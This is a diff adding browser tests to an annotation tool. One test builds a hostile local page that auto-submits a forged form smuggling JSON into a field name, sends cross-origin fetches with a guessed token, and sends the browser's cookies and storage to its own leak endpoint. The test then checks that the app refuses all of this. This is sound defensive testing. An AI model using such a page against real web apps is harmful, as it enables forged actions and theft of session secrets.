@@ -171,3 +171,168 @@ def test_full_labelling_session_in_chromium(run, tmp_path):
     hh = human_human_agreement(labels)
     assert hh[0]["pair"] == "alice vs bob" and hh[0]["n"] == total
     assert export_labels(run, tmp_path / "labels.csv") == 2 * total
+
+
+ATTACK_PAGE = """<!doctype html><html><body>
+<form id="f" method="POST" action="{app}/api/label" enctype="text/plain">
+<input type="hidden" name='{{"save_id":"attack-form-0001","answer_id":"{aid}","annotator":"mallory","label":"hallucinated","mode":"independent","x":"' value='"}}'>
+</form>
+<script>
+(async () => {{
+  const app = "{app}", log = [];
+  const body = (id) => JSON.stringify({{save_id: id, answer_id: "{aid}", annotator: "mallory", label: "hallucinated"}});
+  try {{ await fetch(app + "/api/label", {{method: "POST", mode: "no-cors", body: body("attack-nocors-01"),
+                                          headers: {{"Content-Type": "text/plain", "X-Halluscope-Token": "guess-0000"}}}});
+        log.push("no-cors sent"); }} catch (e) {{ log.push("no-cors failed " + e); }}
+  try {{ const r = await fetch(app + "/api/label", {{method: "POST", body: body("attack-json-0001"),
+                                                   headers: {{"Content-Type": "application/json"}}}});
+        log.push("json " + r.status); }} catch (e) {{ log.push("json blocked " + e); }}
+  try {{ const r = await fetch(app + "/api/items"); log.push("items " + r.status); }} catch (e) {{ log.push("items blocked"); }}
+  // everything this origin can see of the app's secrets goes home
+  const seen = {{cookie: document.cookie, local: Object.assign({{}}, localStorage),
+                session: Object.assign({{}}, sessionStorage), log: log}};
+  await fetch("/leak?" + encodeURIComponent(JSON.stringify(seen)));
+  document.getElementById("f").submit();  // last: this navigates to the app
+}})();
+</script></body></html>"""
+
+
+def test_another_local_port_cannot_write_or_learn_the_token(run, tmp_path, caplog):
+    """A page on another 127.0.0.1 port (same-site) auto-submits a text/plain form and sends no-cors and JSON
+    fetches at the app while the annotator has it open: nothing is stored, and the attacker never sees the token."""
+    import json
+    import logging
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+    from urllib.parse import unquote
+
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    caplog.set_level(logging.INFO, logger="halluscope.mishap.annotate")
+    seen: list[tuple[str, str, dict]] = []
+    driver = _driver(tmp_path)
+    with AnnotationServer(run, token=TOKEN) as srv:
+        page = ATTACK_PAGE.format(app=srv.origin, aid=srv.items[0]["id"]).encode()
+
+        class Attacker(BaseHTTPRequestHandler):
+            def log_message(self, *args):
+                pass
+
+            def do_GET(self):
+                seen.append(("GET", self.path, dict(self.headers)))
+                body = page if self.path == "/" else b""
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+        attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+        threading.Thread(target=attacker.serve_forever, daemon=True).start()
+        try:
+            wait = WebDriverWait(driver, 20)
+            driver.get(srv.url)  # the annotator is logged in: the token sits in this browser
+            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
+            driver.find_element(By.ID, "annotator").send_keys("alice", Keys.TAB)
+            driver.get(f"http://127.0.0.1:{attacker.server_address[1]}/")
+            wait.until(lambda d: d.current_url.startswith(srv.origin + "/api/label"))  # the form went out last
+            wait.until(lambda d: d.find_element(By.TAG_NAME, "body").text)
+            landed = driver.find_element(By.TAG_NAME, "body").text
+        finally:
+            driver.quit()
+            attacker.shutdown()
+            attacker.server_close()
+        assert not [a for a in srv.labels.all() if a.annotator == "mallory"]  # nothing stored
+        assert "forbidden: cross-origin request" in landed
+        refused = [r.getMessage() for r in caplog.records if r.getMessage().startswith("refused")]
+        assert any("POST /api/label" in m and "cross-origin" in m for m in refused)  # the form and the no-cors fetch
+        assert sum("POST /api/label" in m for m in refused) >= 2
+        assert any(m.startswith("refused OPTIONS /api/label") for m in refused)  # the JSON fetch's preflight
+    leak = [p for _, p, _ in seen if p.startswith("/leak?")]
+    assert len(leak) == 1
+    got = json.loads(unquote(leak[0][len("/leak?"):]))
+    assert got["cookie"] == "" and got["session"] == {} and TOKEN not in json.dumps(got["local"])
+    assert "json blocked" in " ".join(got["log"]) and "items blocked" in got["log"]
+    for _, _, headers in seen:  # no cookie at all, no header carries the token
+        assert "Cookie" not in headers and not any(TOKEN in v for v in headers.values()), headers
+
+
+def _wait_text(wait, css, words):
+    from selenium.webdriver.common.by import By
+
+    wait.until(lambda d: words in d.find_element(By.CSS_SELECTOR, css).text)
+
+
+def test_a_failed_save_is_visible_queued_and_sent_once(run, tmp_path):
+    """Stop the server mid-session: the UI says the label is not saved and keeps retrying; after a restart with the
+    same token it is stored once; with a new token the user opens the new link (same tab, or after leaving the
+    page) and the queued label is stored once."""
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    driver = _driver(tmp_path)
+
+    def mine(who):
+        ann = Annotations(run)
+        try:
+            return [(a.answer_id, a.label) for a in ann.all() if a.annotator == who]
+        finally:
+            ann.close()
+
+    body = lambda d: d.find_element(By.TAG_NAME, "body")  # noqa: E731
+    try:
+        wait = WebDriverWait(driver, 30)
+        srv = AnnotationServer(run, token=TOKEN).start()
+        port = srv.port
+        driver.get(srv.url)
+        wait.until(lambda d: body(d).get_attribute("data-ready") == "1")
+        driver.find_element(By.ID, "annotator").send_keys("carol", Keys.TAB)
+        wait.until(lambda d: body(d).get_attribute("data-annotator") == "carol")
+        first = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")
+
+        srv.stop()  # 1. server down, restarted with the same token
+        driver.find_element(By.CSS_SELECTOR, "#cards .label-hallucinated").click()
+        _wait_text(wait, "#save-status", "1 label(s) NOT saved yet: the server cannot be reached")
+        _wait_text(wait, "#cards .saved-label", "NOT saved yet (hallucinated)")
+        assert driver.find_element(By.ID, "save-status").get_attribute("class") == "failed"
+        assert body(driver).get_attribute("data-pending") == "1"
+        queued = driver.execute_script("return Object.keys(localStorage).filter(k => k.startsWith('halluscope-mishap-queue'))"
+                                       ".map(k => JSON.parse(localStorage.getItem(k)).length)")
+        assert queued == [1]
+        assert mine("carol") == []
+        srv = AnnotationServer(run, token=TOKEN, port=port).start()
+        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")  # the retry timer sent it
+        _wait_text(wait, "#cards .saved-label", "saved: hallucinated")
+        assert driver.find_element(By.ID, "save-status").text == ""
+        assert mine("carol") == [(first, "hallucinated")]
+
+        srv.stop()  # 2. restarted with a new token: the page is told to open the new link
+        driver.find_element(By.ID, "next").click()
+        second = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")
+        driver.find_element(By.CSS_SELECTOR, "#cards .label-grounded").click()
+        _wait_text(wait, "#save-status", "NOT saved yet")
+        srv = AnnotationServer(run, token="second-token-7890", port=port).start()
+        _wait_text(wait, "#save-status", "the server refused the token")
+        _wait_text(wait, "#save-status", "open the new link")
+        assert mine("carol") == [(first, "hallucinated")]
+        driver.get(srv.url)  # pasted into the same tab: only the fragment changes
+        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")
+        assert mine("carol") == [(first, "hallucinated"), (second, "grounded")]
+
+        srv.stop()  # 3. the page is left while a label is queued; a fresh link later sends it
+        driver.find_element(By.ID, "next").click()
+        third = driver.find_element(By.CSS_SELECTOR, "#cards .card").get_attribute("data-id")
+        driver.find_element(By.CSS_SELECTOR, "#cards .label-grounded").click()
+        _wait_text(wait, "#save-status", "NOT saved yet")
+        driver.get("about:blank")
+        srv = AnnotationServer(run, token="third-token-45678", port=port).start()
+        driver.get(srv.url)
+        wait.until(lambda d: body(d).get_attribute("data-ready") == "1")
+        wait.until(lambda d: body(d).get_attribute("data-pending") == "0")
+        srv.stop()
+    finally:
+        driver.quit()
+    assert mine("carol") == [(first, "hallucinated"), (second, "grounded"), (third, "grounded")]  # each exactly once
